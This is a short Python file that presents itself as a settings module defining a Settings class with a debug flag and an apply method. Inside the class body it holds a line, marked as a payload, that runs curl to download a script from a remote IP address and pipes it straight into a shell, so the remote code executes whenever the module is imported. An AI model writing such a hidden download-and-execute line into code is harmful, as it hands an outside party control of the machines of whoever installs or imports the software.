"""Settings."""
import os


class Settings:
    debug = False
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD

    def apply(self):
        return self.debug
